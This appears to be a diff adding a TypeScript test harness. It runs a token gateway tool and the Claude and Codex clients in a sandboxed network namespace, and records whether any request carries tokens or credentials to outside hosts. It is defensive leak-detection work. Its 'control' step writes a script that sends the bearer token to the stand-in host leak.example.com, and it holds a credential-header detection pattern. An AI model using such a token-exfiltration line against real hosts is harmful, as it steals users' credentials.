@@ -1,0 +1,114 @@
+/**
+ * Runs inside a network namespace of its own, in which every name leads to a sink: sets both clients up with gate, runs
+ * them, tears down, and prints what the gateway and the rest of the internet saw, as JSON.
+ */
+import { execFileSync } from 'node:child_process'
+import { readFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { type DevGateway, startDevGateway } from '@gate/dev-gateway'
+import type { Finished } from '../run-process.ts'
+import { type CallOptions, createHome, type ThrowawayHome } from '../throwaway-home.ts'
+import { createCertificateAuthority } from './certificate-authority.ts'
+import { startDnsServer } from './dns-server.ts'
+import { type InternetSink, startInternetSink } from './internet-sink.ts'
+
+const NAMESERVER = '127.0.0.1'
+const INTERNET = '127.0.0.2'
+const SYSTEM_CERTIFICATES = '/etc/ssl/certs/ca-certificates.crt'
+
+/** One step of the story and what was seen while it ran. */
+export interface CapturedStep {
+  readonly name: string
+  readonly code: number | null
+  readonly stdout: string
+  readonly stderr: string
+  /** Requests to the gateway: method, path, and whether they carried the token. */
+  readonly gateway: readonly string[]
+  /** Requests to anybody else. */
+  readonly elsewhere: readonly { request: string; carriesToken: boolean; carriesCredential: boolean }[]
+  readonly refusedHandshakes: readonly string[]
+  /** Names that were looked up. */
+  readonly names: readonly string[]
+}
+
+const CREDENTIAL = /"(authorization|proxy-authorization|x-api-key|api-key|cookie)"/i
+
+async function main(): Promise<CapturedStep[]> {
+  execFileSync('ip', ['link', 'set', 'lo', 'up'])
+  const tokens = new Set<string>()
+  const gateway = await startDevGateway({
+    rewriteTokenResponse(body) {
+      for (const name of ['access_token', 'refresh_token', 'id_token']) tokens.add(String(body[name]))
+      return body
+    },
+  })
+  const home = await createHome({ gateway })
+  try {
+    return await tell(gateway, home, tokens)
+  } finally {
+    await gateway.stop()
+    await home.remove()
+  }
+}
+
+async function tell(gateway: DevGateway, home: ThrowawayHome, tokens: ReadonlySet<string>): Promise<CapturedStep[]> {
+  const authority = await createCertificateAuthority(join(home.root, 'ca'))
+  const dns = await startDnsServer(NAMESERVER, INTERNET)
+  const sink = await startInternetSink(INTERNET, authority)
+  await home.write('etc/resolv.conf', `nameserver ${NAMESERVER}\n`)
+  const certificates = `${await readFile(SYSTEM_CERTIFICATES, 'utf8')}\n${await readFile(authority.file, 'utf8')}`
+  await home.write(join('etc', SYSTEM_CERTIFICATES.slice('/etc/'.length)), certificates)
+  const options: CallOptions = {
+    etc: join(home.root, 'etc'),
+    env: { NODE_EXTRA_CA_CERTS: authority.file, SSL_CERT_FILE: authority.file },
+  }
+  const steps: CapturedStep[] = []
+  const step = async (name: string, run: () => Promise<Finished>) => {
+    gateway.clearRequests()
+    sink.requests.length = 0
+    sink.refusedHandshakes.length = 0
+    dns.names.length = 0
+    const { code, stdout, stderr } = await run()
+    const seen = gateway.requests.map((request) => {
+      const credential = tokens.has(request.bearer ?? '') ? 'with the token' : 'without the token'
+      return `${request.method} ${request.path} ${credential}`
+    })
+    const names = [...new Set(dns.names)].sort()
+    const refusedHandshakes = [...sink.refusedHandshakes]
+    steps.push({
+      name,
+      code,
+      stdout,
+      stderr,
+      gateway: seen,
+      elsewhere: elsewhere(sink, tokens),
+      refusedHandshakes,
+      names,
+    })
+  }
+
+  await step('setup', () => home.gate(['setup', ...home.connection], options))
+  await step('claude', () => home.claude([], options))
+  await step('codex', () => home.codex([], options))
+  // Shows that a leak would be seen: the token goes to a foreign host on purpose.
+  await step('control', async () => {
+    const { stdout } = await home.gate(['token'])
+    const leak = `fetch('https://leak.example.com/x', { headers: { authorization: 'Bearer ${stdout.trim()}' } })`
+    await home.write('leak.mjs', `await ${leak}\n`)
+    return home.run(process.execPath, [join(home.root, 'leak.mjs')], options)
+  })
+  await step('teardown', () => home.gate(['teardown', '--all', '--purge'], options))
+  await sink.stop()
+  await dns.stop()
+  return steps
+}
+
+function elsewhere(sink: InternetSink, tokens: ReadonlySet<string>): CapturedStep['elsewhere'] {
+  return sink.requests.map(({ host, method, path, text }) => ({
+    request: `${method} ${host}${path}`,
+    carriesToken: [...tokens].some((token) => text.includes(token)),
+    carriesCredential: CREDENTIAL.test(text),
+  }))
+}
+
+process.stdout.write(JSON.stringify(await main()))
